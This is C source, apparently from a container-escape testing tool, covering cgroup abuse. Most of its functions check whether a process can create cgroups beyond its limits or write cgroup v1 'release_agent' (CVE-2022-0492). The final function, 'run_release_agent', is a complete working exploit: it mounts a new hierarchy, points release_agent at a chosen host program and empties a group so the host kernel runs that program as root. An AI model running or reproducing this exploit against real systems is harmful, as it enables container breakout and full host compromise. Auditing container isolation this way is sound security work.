/* Control groups: writing to them, and the program that the kernel of cgroup v1 runs when one is empty. */
#include "attempt.h"

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOUNTS 32

static char points[MOUNTS][256];

/* The mount points of kind KIND ("cgroup" for both versions, "cgroup " for the first) in this table. */
static int mounted(const char *kind)
{
    char line[1024], wanted[32];
    int count = 0;
    FILE *table = fopen("/proc/self/mountinfo", "re");
    snprintf(wanted, sizeof(wanted), " - %s", kind);
    while (table && count < MOUNTS && fgets(line, sizeof(line), table))
        if (strstr(line, wanted) && sscanf(line, "%*s %*s %*s %*s %255s", points[count]) == 1)
            count++;
    if (table)
        fclose(table);
    return count;
}

static const char *below(const char *point, const char *name)
{
    static char path[512];
    snprintf(path, sizeof(path), "%.255s/%s", point, name);
    return path;
}

/* A hierarchy of this kernel on /tmp, of the FIRST version or of any; which one is all the same. */
static int mount_one(int first)
{
    static const char *const KINDS[] = {"pids", "memory", "devices", "cpu", "freezer", "rdma", "misc"};
    if (!first && mount("cgroup2", "/tmp", "cgroup2", 0, 0) == 0)
        return 0;
    for (size_t i = 0; i < sizeof(KINDS) / sizeof(KINDS[0]); i++)
        if (mount("cgroup", "/tmp", "cgroup", 0, KINDS[i]) == 0)
            return 0;
    return -1;
}

static void make_a_group(int count)
{
    for (int i = 0; i < count; i++) {
        const char *path = below(points[i], "attempt");
        if (mkdir(path, 0755) == 0 || errno == EEXIST) {
            rmdir(path);
            succeeded("made a group in %s", points[i]);
        }
    }
}

/* Who writes here can leave the limits that were set: a group beside one's own has none. */
void try_cgroup_write(void)
{
    int count = mounted("cgroup"), why = count ? 0 : ENOENT;
    make_a_group(count);
    why = count ? errno : why;
    if (mount_one(0) == 0) {
        snprintf(points[0], sizeof(points[0]), "/tmp");
        make_a_group(1);
        umount2("/tmp", MNT_DETACH);
    }
    if (count) {
        errno = why;
        blocked("a group in what is mounted, or mounting it");
    }
    blocked("mounting a hierarchy");
}

/* Write back what release_agent says: who may do that may have the host's root run any program. */
static void same_agent(const char *point)
{
    char text[512];
    int fd = open(below(point, "release_agent"), O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, text, sizeof(text) - 1);
    if (n == 0)
        text[n++] = '\n';
    if (n > 0 && pwrite(fd, text, (size_t)n, 0) == n)
        succeeded("wrote %s/release_agent", point);
    close(fd);
}

/* CVE-2022-0492: in what is mounted, in a mount of one's own, in that of a user namespace. */
void try_release_agent(void)
{
    int count = mounted("cgroup ");
    int why = 0;
    for (int i = 0; i < count; i++) {
        same_agent(points[i]);
        why = errno;
    }
    if (mount_one(1) == 0) {
        same_agent("/tmp");
        why = errno;
        umount2("/tmp", MNT_DETACH);
    } else {
        why = why ? why : errno;
    }
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0 && mount_one(1) == 0)
        same_agent("/tmp");
    errno = why;
    blocked("release_agent");
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        blocked(path);
    close(fd);
}

/* The whole way, in a new hierarchy called NAME=..., with the host's program AGENT=... . */
void run_release_agent(void)
{
    char options[128], *group = "/tmp/leaf";
    snprintf(options, sizeof(options), "none,name=%s", fact("name", "attempt"));
    if (mount("cgroup", "/tmp", "cgroup", 0, options) < 0)
        blocked("mounting a hierarchy of its own");
    if (mkdir(group, 0755) < 0)
        blocked(group);
    put("/tmp/release_agent", fact("agent", ""));
    put("/tmp/leaf/notify_on_release", "1");
    pid_t pid = fork();
    if (pid == 0) {
        put("/tmp/leaf/cgroup.procs", "0");
        _exit(0);
    }
    waitpid(pid, 0, 0);
    usleep(200000);
    rmdir(group);
    usleep(200000); /* the kernel forgets it later, and keeps a hierarchy that has one when it is unmounted */
    umount2("/tmp", 0);
    succeeded("the group was emptied");
}
